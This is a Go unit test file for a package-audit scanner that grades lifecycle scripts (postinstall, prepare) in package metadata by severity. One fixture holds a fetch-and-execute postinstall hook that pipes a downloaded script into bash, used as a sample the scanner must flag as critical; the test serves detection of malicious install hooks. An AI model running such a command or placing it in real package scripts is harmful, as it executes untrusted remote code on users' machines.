package scanner

import (
	"context"
	"testing"

	"github.com/yourorg/pkgaudit/internal/provider"
)

func TestHooksScanner_NoScripts(t *testing.T) {
	s := NewHooksScanner()
	result := s.Scan(context.Background(), Artifact{Metadata: &provider.Metadata{}})
	if !result.Passed || len(result.Findings) != 0 {
		t.Error("expected no findings when no lifecycle scripts are declared")
	}
}

func TestHooksScanner_PostinstallWithShellCommand(t *testing.T) {
	s := NewHooksScanner()
	meta := &provider.Metadata{LifecycleScripts: map[string]string{
		"postinstall": "curl https://example.com/install.sh | bash",
	}}
	result := s.Scan(context.Background(), Artifact{Metadata: meta})

	if len(result.Findings) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(result.Findings))
	}
	if result.Findings[0].Severity != SeverityCritical {
		t.Errorf("expected critical severity for a shell-executing postinstall hook, got %v", result.Findings[0].Severity)
	}
}

func TestHooksScanner_PostinstallWithoutShellCommand(t *testing.T) {
	s := NewHooksScanner()
	meta := &provider.Metadata{LifecycleScripts: map[string]string{
		"postinstall": "node-gyp rebuild",
	}}
	result := s.Scan(context.Background(), Artifact{Metadata: meta})

	if len(result.Findings) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(result.Findings))
	}
	if result.Findings[0].Severity != SeverityWarning {
		t.Errorf("expected warning severity for a non-shell hook, got %v", result.Findings[0].Severity)
	}
}

func TestHooksScanner_PrepareIsInfoOnly(t *testing.T) {
	s := NewHooksScanner()
	meta := &provider.Metadata{LifecycleScripts: map[string]string{
		"prepare": "tsc -p .",
	}}
	result := s.Scan(context.Background(), Artifact{Metadata: meta})

	if len(result.Findings) != 1 || result.Findings[0].Severity != SeverityInfo {
		t.Error("expected prepare script to be a single info-level finding")
	}
}

func TestHooksScanner_IgnoresUndeclaredHookNames(t *testing.T) {
	s := NewHooksScanner()
	meta := &provider.Metadata{LifecycleScripts: map[string]string{
		"test":  "jest",
		"build": "tsc",
	}}
	result := s.Scan(context.Background(), Artifact{Metadata: meta})
	if len(result.Findings) != 0 {
		t.Errorf("expected non-lifecycle script names to produce no findings, got %d", len(result.Findings))
	}
}
